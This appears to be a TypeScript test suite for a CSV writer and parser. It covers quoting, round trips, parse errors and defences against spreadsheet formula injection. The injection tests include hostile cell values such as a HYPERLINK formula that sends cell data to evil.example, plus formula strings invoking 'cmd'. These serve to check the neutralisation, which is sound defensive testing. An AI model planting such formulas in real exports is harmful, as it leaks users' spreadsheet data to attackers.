import { csvField, parseCsv, toCsv } from './csv';

describe('csv', () => {
  describe('writing', () => {
    const fields: [string, string][] = [
      ['plain', 'plain'],
      ['', ''],
      ['a,b', '"a,b"'],
      ['say "hi"', '"say ""hi"""'],
      ['line\nbreak', '"line\nbreak"'],
      ['crlf\r\nbreak', '"crlf\r\nbreak"'],
      ['"', '""""'],
      ['  spaces kept  ', '  spaces kept  '],
      ['café 🌿 夜勤', 'café 🌿 夜勤'],
    ];
    for (const [value, written] of fields) {
      it(`writes ${JSON.stringify(value)} as ${JSON.stringify(written)}`, () => {
        expect(csvField(value)).toBe(written);
      });
    }

    // OWASP CSV injection: a spreadsheet runs a cell that starts with one of these as a formula.
    const hostile: [string, string][] = [
      ['=1+1', `"'=1+1"`],
      ['=HYPERLINK("http://evil.example/?x="&A1,"open")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`],
      ['+cmd', `"'+cmd"`],
      ['-2+3', `"'-2+3"`],
      ['-3', `"'-3"`],
      ['@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
      ['\t=1+1', `"'\t=1+1"`],
      ['\r=1+1', `"'\r=1+1"`],
      ['=', `"'="`],
    ];
    for (const [value, written] of hostile) {
      it(`neutralises the text cell ${JSON.stringify(value)} as ${JSON.stringify(written)}`, () => {
        expect(csvField(value)).toBe(written);
      });
    }

    const harmless: [string, string][] = [
      ['a=b', 'a=b'],
      [' =1+1', ' =1+1'],
      ['ICU +1', 'ICU +1'],
      ['2026-03-08', '2026-03-08'],
      ["'quoted already", "'quoted already"],
    ];
    for (const [value, written] of harmless) {
      it(`leaves ${JSON.stringify(value)}, which no spreadsheet runs, as ${JSON.stringify(written)}`, () => {
        expect(csvField(value)).toBe(written);
      });
    }

    const numbers: [number, string][] = [
      [-3, '-3'],
      [0, '0'],
      [6.5, '6.5'],
      [-0.5, '-0.5'],
    ];
    for (const [value, written] of numbers) {
      it(`writes the number ${value}, which Tend wrote, as ${written}`, () => {
        expect(csvField(value)).toBe(written);
      });
    }

    it('neutralises text cells and keeps numbers in the same row', () => {
      expect(toCsv([[-3, '-3', '+cmd', 4]])).toBe(`-3,"'-3","'+cmd",4\r\n`);
    });

    it('ends every record, the last included, with CRLF', () => {
      expect(toCsv([['day', 'note'], ['2026-03-08', 'ok, fine']])).toBe('day,note\r\n2026-03-08,"ok, fine"\r\n');
      expect(toCsv([])).toBe('');
    });
  });

  describe('round trip', () => {
    it('reads back exactly what it wrote', () => {
      const rows = [
        ['id', 'text', 'empty', 'unicode'],
        ['1', 'He said "stop", then left.\r\nNext line\nand a bare LF', '', 'Ñandú — 🫶 — مرحبا'],
        ['2', ',,,', '""', 'x\r'],
        ['3', ' leading and trailing ', 'a"b"c', 'x'.repeat(100_000)],
      ];
      expect(parseCsv(toCsv(rows))).toEqual({ ok: true, rows });
    });

    it('reads a neutralised cell back with its leading quote, as a spreadsheet shows it', () => {
      expect(parseCsv(toCsv([['=1+1', '\r']]))).toEqual({ ok: true, rows: [["'=1+1", "'\r"]] });
    });
  });

  describe('reading', () => {
    const readable: [string, string, string[][]][] = [
      ['an empty file', '', []],
      ['a file without a final line break', 'a,b\r\nc,d', [['a', 'b'], ['c', 'd']]],
      ['bare LF line ends', 'a,b\nc,d\n', [['a', 'b'], ['c', 'd']]],
      ['a leading byte-order mark', '\uFEFFa,b\r\n', [['a', 'b']]],
      ['empty fields, trailing included', ',a,\r\n,', [['', 'a', ''], ['', '']]],
      ['a blank line as one empty field', 'a\r\n\r\nb\r\n', [['a'], [''], ['b']]],
      ['quoted separators and doubled quotes', '"a,b","say ""hi""","x\r\ny"\r\n', [['a,b', 'say "hi"', 'x\r\ny']]],
      ['an empty quoted field', '"",""\r\n', [['', '']]],
    ];
    for (const [why, text, rows] of readable) {
      it(`reads ${why}`, () => {
        expect(parseCsv(text)).toEqual({ ok: true, rows });
      });
    }

    const unreadable: [string, string, number, RegExp, boolean][] = [
      ['a quote inside an unquoted field', 'a,b\r\nc,d"e\r\n', 2, /quote inside a field/, false],
      ['text after a closing quote', '"a"b,c\r\n', 1, /closing quote must be followed/, false],
      ['an unterminated quote', 'a\r\n"b,c\r\nd\r\n', 2, /never closed/, true],
      ['an unterminated quote after a multi-line field', '"x\ny",1\n"z\n\n', 3, /never closed/, true],
      ['a file that ends on an opening quote', 'a,"', 1, /never closed/, true],
      ['a stray carriage return', 'a\rb,c\r\n', 1, /carriage return/, false],
      ['a quote problem after a multi-line field', '"x\ny",1\nz"\n', 3, /quote inside/, false],
    ];
    for (const [why, text, line, message, endsEarly] of unreadable) {
      it(`rejects ${why}, naming line ${line}`, () => {
        const result = parseCsv(text);
        expect(result.ok).toBeFalse();
        if (!result.ok) {
          expect(result.line).toBe(line);
          expect(result.error).toMatch(message);
          expect(result.error).toMatch(new RegExp(`^Line ${line}: `));
          expect(result.endsEarly).toBe(endsEarly);
        }
      });
    }
  });
});
